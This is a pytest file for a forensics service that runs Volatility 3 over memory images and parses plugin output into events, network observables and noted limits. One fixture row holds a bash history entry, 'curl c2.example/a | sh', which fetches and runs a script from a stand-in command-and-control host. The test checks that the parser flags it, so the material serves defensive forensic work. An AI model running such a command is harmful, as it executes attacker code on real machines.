"""The real Volatility 3, in an environment of its own, over a file in which this kernel's banner stands."""

import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from msgspec.json import encode

from cases.models import Case, TimelineEntry
from enrichment.forensics import volatility_run
from enrichment.forensics.image import Descriptor
from enrichment.forensics.notebook import Notebook
from enrichment.forensics.scanner import Rules
from enrichment.forensics.volatility import Tool
from enrichment.models import Examination
from enrichment.services import examinations, outsiders
from tests.cases.evidence.conftest import take

PYTHON = "/usr/bin/python3"  # one that everybody may run, as the process is nobody


@pytest.fixture(scope="module")
def volatility() -> Iterator[Path]:
    """Installed from the registry as a site would, once."""
    uv = os.environ.get("UV") or shutil.which("uv")
    if uv is None or not Path(PYTHON).exists():
        pytest.skip("there is no uv, or no Python of the system")
    with TemporaryDirectory() as name:
        folder = Path(name)
        folder.chmod(0o755)
        makes = ("venv", "-q", "--allow-existing", "-p", PYTHON, name)
        for words in (makes, ("pip", "install", "-q", "-p", name, "volatility3==2.28.2")):
            if subprocess.run([uv, *words], check=False).returncode != 0:
                pytest.skip("Volatility 3 cannot be installed here")
        yield folder


@pytest.mark.slow
def test_the_banner_of_a_kernel_is_found_and_what_lacks_symbols_is_said(
    case: Case, volatility: Path, settings: Any, open_folder: Path
) -> None:
    settings.NIGHTDESK_VOLATILITY = str(volatility)
    settings.NIGHTDESK_VOLATILITY_SYMBOLS = str(open_folder)
    banner = Path("/proc/version").read_bytes()
    item = take(case, os.urandom(500_000) + banner + bytes(500_000), kind="memory", title="Memory")

    assert [one.tool for one in examinations.start(item.pk)] == ["memory", "volatility"]
    examinations.carry_out_due()

    found = Examination.objects.get(evidence=item, tool="volatility")
    assert (found.state, found.reason) == ("done", "")
    assert (found.result["tool"], found.result["version"]) == ("Volatility 3", "2.28.2")
    assert [fact["value"] for fact in found.result["facts"]] == [banner.decode().strip()]
    assert found.result["tables"][0]["title"] == "banners.Banners"
    lacking = [limit.partition(":")[0] for limit in found.result["limits"]]
    assert lacking == list(outsiders.PLUGINS[1:]), "a banner alone leaves out nothing"
    assert "symbols of this system" in found.result["limits"][0]
    assert TimelineEntry.objects.filter(text__startswith="E-1 examined with Volatility 3 2.28.2").exists()


def test_without_volatility_the_examination_of_a_memory_image_says_so_once(case: Case, settings: Any) -> None:
    settings.NIGHTDESK_VOLATILITY = "/opt/none"
    item = take(case, b"memory " * 9_000, kind="memory", title="Memory")
    examinations.start(item.pk)
    examinations.carry_out_due()

    (found,) = Examination.objects.filter(evidence=item)
    said = "Volatility has not read it: it is not installed (NIGHTDESK_VOLATILITY is /opt/none)."
    assert found.result["limits"] == [said]


def test_without_symbols_only_the_banner_is_asked_for(settings: Any, tmp_path: Path) -> None:
    for name in ("vol", "python"):
        (tmp_path / "bin").mkdir(exist_ok=True)
        (tmp_path / "bin" / name).write_text("")
    settings.NIGHTDESK_VOLATILITY, settings.NIGHTDESK_VOLATILITY_SYMBOLS = str(tmp_path), ""
    tool = outsiders.ForensicTool.VOLATILITY

    assert outsiders.missing(tool) == ""
    assert '"plugins": ["banners.Banners"]' in outsiders.job(tool).command[-1]
    assert outsiders.notes(tool)[0].startswith("Without symbols")
    settings.NIGHTDESK_VOLATILITY_SYMBOLS = str(settings.DATA_DIR)
    assert outsiders.notes(tool)[0].startswith("Its symbols were not opened")


LINES: list[Any] = [
    {
        "plugin": "linux.bash.Bash",
        "columns": ["PID", "Process", "CommandTime", "Command"],
        "rows": [
            ["7", "bash", "2026-09-21T14:13:20+00:00", "curl c2.example/a | sh"],
            ["7", "bash", None, "ls"],
        ],
    },
    {
        "plugin": "windows.netscan.NetScan",
        "columns": ["ForeignAddr", "ForeignPort"],
        "rows": [["93.184.216.34", "443"], ["10.0.0.9", "445"], ["*", None], ["198.51.100.9", "80"]],
    },
    {"plugin": "windows.cmdline.CmdLine", "error": "stopped after 9 seconds"},
    "no object",
    {"plugin": "x", "columns": ["Process", "CommandTime"], "rows": [["short"]]},
]


def test_commands_are_events_and_other_ends_are_destinations(tmp_path: Path) -> None:
    """Lines as our runner writes them: no symbols are in any registry, so no real table can be had here."""
    path, notebook = tmp_path / "out.jsonl", Notebook(known=frozenset({"198.51.100.9"}))
    path.write_bytes(b"".join(encode(line) + b"\n" for line in LINES))

    with path.open("rb") as file:
        list(Tool(Rules([], notebook), notebook).run(Descriptor(file.fileno())))

    report = notebook.report("x", "1", sha256=None, guards=[])
    assert [event.text for event in report.events] == ["Typed in bash: curl c2.example/a | sh"]
    assert [one.value for one in report.observables] == ["93.184.216.34"]
    assert [one.name for one in report.notable] == ["198.51.100.9"]
    assert "windows.cmdline.CmdLine: stopped after 9 seconds" in report.limits
    assert "What a plugin of Volatility said could not be read." in report.limits


@pytest.mark.parametrize(("rows", "run"), [([], 7), ([["1", "systemd"]], 4)])
def test_windows_is_left_out_only_where_processes_of_linux_were_found_and_that_is_said(
    rows: list[list[str]], run: int
) -> None:
    asked = list[str]()

    def tell(name: str) -> dict[str, Any]:
        asked.append(name)
        banner = [["0x1", "Linux version 6.1"]] if name == "banners.Banners" else []
        return {"plugin": name, "rows": rows if name == volatility_run.LINUX else banner, "error": ""}

    told = list(volatility_run.in_turn(outsiders.PLUGINS, tell))

    assert asked == list(outsiders.PLUGINS[:run])
    assert [one["plugin"] for one in told] == list(outsiders.PLUGINS)
    assert all("found processes of Linux" in one["error"] for one in told[run:])


def test_of_more_columns_than_a_table_has_the_telling_ones_stay_and_the_others_are_named(tmp_path: Path) -> None:
    path, notebook = tmp_path / "out.jsonl", Notebook()
    columns = ["NetNS", "Process Name", "PID", "TID", "FD", "Sock Offset", "Family", "Type", "Proto", "Source Addr"]
    columns += ["Source Port", "Destination Addr", "Destination Port", "State", "Filter"]
    path.write_bytes(encode({"plugin": "linux.sockstat.Sockstat", "columns": columns, "rows": [columns]}) + b"\n")

    with path.open("rb") as file:
        list(Tool(Rules([], notebook), notebook).run(Descriptor(file.fileno())))

    report = notebook.report("x", "1", sha256=None, guards=[])
    assert report.tables[0].columns == report.tables[0].rows[0]
    assert report.tables[0].columns[-3:] == ["Destination Addr", "Destination Port", "State"]
    assert report.limits == [
        "linux.sockstat.Sockstat: columns that are not listed: NetNS, TID, FD, Sock Offset, Family, Type, Filter."
    ]
